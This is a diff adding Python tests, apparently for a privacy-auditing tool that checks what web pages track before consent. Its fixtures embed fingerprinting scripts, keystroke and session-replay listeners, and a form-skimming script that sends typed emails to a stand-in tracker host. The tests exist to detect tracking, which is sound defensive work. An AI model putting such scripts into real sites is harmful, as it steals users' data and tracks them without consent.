@@ -1,0 +1,122 @@
+"""What is seen of traffic and storage: frames, workers, beacons, sockets, third parties, behaviour, identifiers."""
+
+from __future__ import annotations
+
+from typing import Any
+
+TRACKER = "https://stats.traceur-essai.test/"
+AGENT = "Essai/1 (+https://preau.example/robot)"
+
+
+def test_every_kind_of_request_is_seen_with_who_caused_it(stage: Any) -> None:
+    stage.tool(
+        {
+            "index.html": f"""<title>t</title><h1>Outil</h1><script src="{TRACKER}t.js"></script><script>
+navigator.sendBeacon("{TRACKER}balise", "a=1"); new Worker("/w.js"); new WebSocket("wss://stats.traceur-essai.test/ws");
+navigator.serviceWorker.register("/sw.js"); fetch("/redir");
+</script>""",
+            "w.js": f'fetch("{TRACKER}ouvrier", {{mode: "no-cors"}});',
+            "sw.js": f'fetch("{TRACKER}service", {{mode: "no-cors"}});',
+        },
+        tail=f'[[routes]]\npath = "/redir"\nredirect = "{TRACKER}arrivee"\nstatus = 302',
+    )
+    stage.tracker()
+    seen = stage.look(phases=("before-choice",))
+    run = seen.run("before-choice")
+    by_path = {one.url.removeprefix(TRACKER): one for one in run.requests if one.url.startswith(TRACKER)}
+    assert {"t.js", "balise", "ouvrier", "service", "arrivee"} <= set(by_path)
+    assert by_path["balise"].resource_type == "ping" and by_path["balise"].post_size == 3
+    assert by_path["p.gif?cid=1234567"].initiator == f"{TRACKER}t.js"
+    assert by_path["arrivee"].redirected_from == "https://www.outil-essai.test/redir"
+    assert by_path["t.js"].peer_address == "127.1.60.2"
+    assert any(one.resource_type == "websocket" for one in run.requests)
+    assert {"beacon", "websocket"} <= {act.kind for act in run.behaviours}
+    kept = {(item.kind, item.key) for item in run.storage}
+    assert ("service-worker", "https://www.outil-essai.test/sw.js") in kept
+    cookie = next(one for one in run.cookies if one.name == "_essai")
+    assert (cookie.set_by, cookie.set_via, cookie.lifetime_seconds) == (f"{TRACKER}t.js", "script", 63_072_000)
+    own = ("stats.traceur-essai.test", "www.outil-essai.test")
+    assert {one.host for one in seen.requests} <= set(own), "Chromium's own calls go nowhere"
+
+
+def test_the_configured_user_agent_goes_out_verbatim_from_everywhere(stage: Any) -> None:
+    stage.tool(
+        {
+            "index.html": f'<h1>Outil</h1><iframe src="{TRACKER}f"></iframe><script>new Worker("/w.js")</script>',
+            "w.js": f'fetch("{TRACKER}w", {{mode: "no-cors"}});',
+        }
+    )
+    stage.tracker({"f.html": "cadre"})
+
+    def agent(config: Any) -> Any:
+        return config.model_copy(update={"network": config.network.model_copy(update={"user_agent": AGENT})})
+
+    seen = stage.look(phases=("before-choice",), config=agent)
+    assert {one.headers.get("user-agent") for one in seen.requests} == {AGENT}
+    assert {one.headers.get("accept-language", "").split(",")[0] for one in seen.requests} <= {"fr-FR", "fr"}
+
+
+def test_storage_of_third_party_frames_is_seen(stage: Any) -> None:
+    stage.tool({"index.html": f'<h1>Outil</h1><iframe src="{TRACKER}f"></iframe>'})
+    stage.tracker(
+        {
+            "f.html": """<script>localStorage.setItem("vid", "3f1c9a7e5d2b8046"); sessionStorage.setItem("s", "1");
+const open = indexedDB.open("base"); open.onupgradeneeded = () => open.result.createObjectStore("visites");
+document.cookie = "cadre=3f1c9a7e5d2b8046; SameSite=None; Secure; max-age=31536000";</script>"""
+        },
+        extra='set_cookie = ["srv={hex16}; SameSite=None; Secure; Max-Age=47304000; Path=/", '
+        '"perime=x; Max-Age=0", "ailleurs=x; Domain=autre.test"]',
+    )
+    run = stage.look(phases=("before-choice",)).run("before-choice")
+    origin = TRACKER.rstrip("/")
+    kept = {(item.kind, item.origin, item.key) for item in run.storage}
+    assert {("local", origin, "vid"), ("session", origin, "s"), ("indexed-db", origin, "base/visites")} <= kept
+    cookies = {one.name: one for one in run.cookies}
+    assert set(cookies) == {"srv", "cadre"}, "neither what deletes nor what no browser takes"
+    assert cookies["srv"].lifetime_seconds == 47_304_000
+    assert cookies["cadre"].third_party_frame and cookies["cadre"].value_digest != "3f1c9a7e5d2b8046"
+
+
+def test_fingerprints_and_recorders_are_told_from_drawings(stage: Any) -> None:
+    stage.tool({"index.html": f"<h1>Outil</h1><script src={TRACKER}fp.js></script><script src=/jeu.js></script>",
+                "jeu.js": 'const c = document.createElement("canvas"); c.getContext("2d").fillRect(0, 0, 9, 9); c.toDataURL();'})  # fmt: skip
+    stage.tracker(
+        {
+            "fp.js": """const c = document.createElement("canvas"); c.width = 240; const x = c.getContext("2d");
+x.fillText("Cwm fjordbank glyphs vext quiz", 2, 10); c.toDataURL();
+new OfflineAudioContext(1, 5000, 44100).startRendering();
+document.addEventListener("keydown", () => 0); document.addEventListener("mousemove", () => 0);
+document.addEventListener("input", () => 0);
+new MutationObserver(() => 0).observe(document, { subtree: true, childList: true, characterData: true });"""
+        }
+    )
+    run = stage.look(phases=("before-choice",)).run("before-choice")
+    acts = {(act.kind, act.script) for act in run.behaviours}
+    script = f"{TRACKER}fp.js"
+    assert {("canvas", script), ("audio", script), ("key-recording", script), ("session-replay", script)} <= acts
+    assert not [one for one in acts if one[1].endswith("jeu.js")]
+
+
+def test_what_is_typed_and_never_submitted_is_seen_to_leave(stage: Any) -> None:
+    stage.tool(
+        {
+            "index.html": "<h1>Outil</h1>",
+            "connexion.html": f"""<form method="post" action="/entrer"><input type="email" name="email">
+<input type="password"><button>Entrer</button></form><script src="{TRACKER}espion.js"></script>""",
+        }
+    )
+    stage.tracker(
+        {
+            "espion.js": f"""document.addEventListener("change", async (e) => {{
+  const bytes = new TextEncoder().encode(e.target.value.toLowerCase());
+  const hash = [...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes))].map((b) => b.toString(16).padStart(2, "0")).join("");
+  new Image().src = "{TRACKER}h.gif?em=" + hash; fetch("{TRACKER}c", {{ method: "POST", mode: "no-cors", body: e.target.value }});
+}});"""
+        }
+    )
+    seen = stage.look([("connexion", "login", "learner")], phases=("before-choice",))
+    run = seen.run("before-choice")
+    leaks = {one.url.removeprefix(TRACKER).split("?")[0]: one.leaks for one in run.requests if one.leaks}
+    assert leaks == {"h.gif": ("email-hash",), "c": ("email",)}
+    assert "form-recording" in {act.kind for act in run.behaviours}
+    assert not [one for one in seen.requests if one.path == "/entrer"]
